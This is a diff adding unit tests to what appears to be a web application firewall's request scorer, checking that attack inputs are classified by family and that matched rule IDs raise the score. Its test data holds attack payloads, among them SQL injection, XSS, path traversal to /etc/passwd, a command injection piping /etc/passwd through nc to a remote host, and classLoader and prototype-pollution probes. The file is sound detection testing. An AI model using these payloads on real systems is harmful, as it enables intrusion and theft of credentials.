@@ -36,6 +36,59 @@ public sealed class RequestScorerTests(ReleasedModels models) : IClassFixture<Re
     }
 
     [Theory]
+    [InlineData("1' UNION SELECT username, password FROM users-- -", "sqli")]
+    [InlineData("<svg/onload=alert(document.domain)>", "xss")]
+    [InlineData("../../../../../../etc/passwd", "path-traversal")]
+    [InlineData("; cat /etc/passwd | nc 10.0.0.1 4444", "cmdi")]
+    public void Score_OfAnAttack_TellsTheFamily(string value, string family)
+    {
+        var result = Score(models.Program(models.Policy()), value);
+
+        Assert.Equal(family, result.Family);
+        Assert.Equal("ARGS:q", result.Variable);
+        Assert.All(result.Models.Where(m => m.Outcome == "Scored"), m => Assert.Equal(family, m.Family));
+    }
+
+    [Fact]
+    public void Score_WithRulesThatMatched_IsHigherByTheirEvidence()
+    {
+        var program = models.Program(models.Policy());
+        var nothing = Score(program, "O'Brien = 1", []);
+        var matched = Score(program, "O'Brien = 1", [942100, 942190, 942360]);
+        var unknown = Score(program, "O'Brien = 1", [900990, 920300, 1]);
+
+        Assert.True(matched.Score > nothing.Score);
+        Assert.Equal(nothing.Score, unknown.Score);
+    }
+
+    [Fact]
+    public void Score_WithoutRulesInThePolicy_IsTheModelsOwn()
+    {
+        var program = models.Program(models.Policy());
+
+        Assert.Equal(0, Score(program, "1' UNION SELECT username, password FROM users-- -").RuleEvidence);
+        Assert.True(
+            Score(program, "1' UNION SELECT username, password FROM users-- -", [942100]).RuleEvidence > 0);
+    }
+
+    [Theory]
+    [InlineData("/s?class.module.classLoader.URLs[0]=0", "query name")]
+    [InlineData("/s?constructor[prototype][admin]=1&__proto__.x=1", "query name")]
+    public void Score_OfANameThatNavigates_ScoresTheName(string target, string part)
+    {
+        var request = new WafOperator.Http.CanonicalRequest();
+        request.Begin("GET", target, "HTTP/1.1");
+        request.AddHeader("Host", "shop.example");
+        request.EndHeaders();
+        request.EndBody();
+        var result = ReleasedModels.Scorer.Score(
+            models.Program(models.Policy()), NoExclusions, request, new ScoringFacts { Route = "" });
+
+        Assert.True(result.Risk >= RiskLevel.Medium, $"score {result.Score}");
+        Assert.Equal(part, result.Part);
+    }
+
+    [Theory]
     [InlineData(EnsembleKind.Weighted)]
     [InlineData(EnsembleKind.Any)]
     public void Score_InTheOtherEnsembles_TellsAttackFromText(EnsembleKind ensemble)
@@ -108,8 +161,9 @@ public sealed class RequestScorerTests(ReleasedModels models) : IClassFixture<Re
         Assert.Equal(RolloutCounters.LatencyBuckets.Count + 1, counters.BaselineLatency.Count);
     }
 
-    private static ScoringResult Score(ScoringProgram program, string value) =>
-        ReleasedModels.Scorer.Score(program, NoExclusions, ReleasedModels.Search(value), new ScoringFacts { Route = "" });
+    private static ScoringResult Score(ScoringProgram program, string value, IReadOnlyList<long>? rules = null) =>
+        ReleasedModels.Scorer.Score(
+            program, NoExclusions, ReleasedModels.Search(value), new ScoringFacts { Route = "", MatchedRules = rules });
 
     private static void ScoreRequest(ScoringProgram program, WafOperator.Http.CanonicalRequest request) =>
         ReleasedModels.Scorer.Score(program, NoExclusions, request, new ScoringFacts { Route = "" });
